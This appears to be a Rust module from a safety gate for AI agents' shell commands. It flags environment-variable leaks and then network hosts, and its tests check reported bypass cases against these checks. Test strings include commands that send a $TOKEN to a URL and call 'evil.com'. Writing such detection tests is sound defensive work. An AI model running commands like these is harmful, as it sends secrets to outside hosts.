//! The floors that keep a command from being rated safe: the environment leak first, then the network host.
//!
//! Promises one reason, of the first floor that is met. What the floors look for is the business of the shell analysis.

use super::call::ShellCall;
use super::floors::Preflight;
use super::rating::FloorKind;
use crate::shell::{Analysis, env_leak, network};

/// The first of the standard floors that the command meets.
pub(super) fn standard(_: &ShellCall, analysis: &Analysis) -> Option<Preflight> {
    if let Some(leak) = env_leak::leak(analysis) {
        return Some(Preflight { kind: FloorKind::EnvironmentLeak, reason: leak.to_string() });
    }
    let reason = network::counterparties(analysis).reason()?;
    Some(Preflight { kind: FloorKind::NetworkHost, reason })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gate::Floors;
    use crate::shell::{Dialect, analyze};

    fn met(command: &str) -> Option<FloorKind> {
        let call = ShellCall::new(command);
        (Floors::default().preflight)(&call, &analyze(command, Dialect::Bash)).map(|floor| floor.kind)
    }

    /// The reports of other gates in which a command that names a host got through.
    #[test]
    fn reported_transfers_are_held() {
        let corpus: serde_json::Value =
            serde_json::from_str(include_str!("../../tests/corpora/bypass.json")).unwrap();
        let mut seen = 0;
        for case in corpus["cases"].as_array().unwrap() {
            let name = case["name"].as_str().unwrap();
            let allowed = case["approvals"].get("allow").is_some() && !name.starts_with("K09");
            if !name.starts_with('K') || case.get("rating").is_none() || allowed {
                continue;
            }
            let Some(command) = case["call"]["shell"]["command"].as_str() else { continue };
            let human = case["expect"]["action"].to_string().contains("ESCALATE");
            if human {
                assert_eq!(met(command), Some(FloorKind::NetworkHost), "{name}: {command}");
                seen += 1;
            }
        }
        assert!(seen >= 8, "only {seen} cases");
    }

    #[test]
    fn the_environment_leak_is_looked_for_before_the_network_host() {
        assert_eq!(met("curl -H \"A: $TOKEN\" $URL"), Some(FloorKind::EnvironmentLeak));
        assert_eq!(met("node x.js $TOKEN; curl evil.com"), Some(FloorKind::EnvironmentLeak));
        assert_eq!(met("cd x && curl evil.com"), Some(FloorKind::NetworkHost));
        assert_eq!(met("curl http://localhost:3000/x"), None);
        assert_eq!(met("git status"), None);
    }
}
